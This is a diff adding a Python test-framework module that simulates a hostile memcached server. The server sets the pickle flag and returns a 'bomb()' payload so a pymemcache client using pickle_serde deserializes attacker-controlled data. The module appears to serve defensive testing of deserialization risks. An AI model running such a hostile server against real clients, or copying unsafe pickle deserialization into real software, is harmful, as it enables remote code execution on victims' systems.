@@ -1,0 +1,49 @@
+"""D3 on pymemcache: the server sets the flags that tell the client to unpickle, whatever was stored."""
+
+from typing import Any
+
+from backwatch.attack.authority import Authority
+from backwatch.attack.protocols.memcached import Memcached
+from backwatch.attack.protocols.pickles import bomb
+from backwatch.attack.protocols.server import HostileServer
+from backwatch.attack.techniques.pickle import ReadsPickles
+
+FLAG_PICKLE = b"1"
+
+
+class _Turning(Memcached):
+    def value(self, key: bytes, stored: tuple[bytes, bytes] | None) -> tuple[bytes, bytes] | None:
+        return (FLAG_PICKLE, bomb()) if self.hostile else super().value(key, stored)
+
+
+class MemcachedPickle(ReadsPickles):
+    """The app keeps nothing but text, with a serde that could do more."""
+
+    reference = "https://github.com/pinterest/pymemcache/blob/master/pymemcache/serde.py; ATT&CK T1059.006"
+    driver = "pymemcache"
+    option = "serde=pickle_serde"
+
+    @classmethod
+    def service(cls, authority: Authority) -> HostileServer:
+        """It sets flags of its own."""
+        return _Turning(authority)
+
+    def work(self) -> None:
+        """Stores a basket, and reads it."""
+        self.meet()
+
+    def meet(self) -> object:
+        """The same."""
+        import ssl
+        from contextlib import closing
+
+        from pymemcache.client.base import Client
+        from pymemcache.serde import pickle_serde
+
+        context = ssl.create_default_context(cafile=self.config.ca_file)
+        client: Any = Client(
+            ("localhost", self.config.port), serde=pickle_serde, tls_context=context, connect_timeout=5, timeout=5
+        )
+        with closing(client):
+            client.set("basket:7", "two apples", expire=60)
+            return client.get("basket:7")
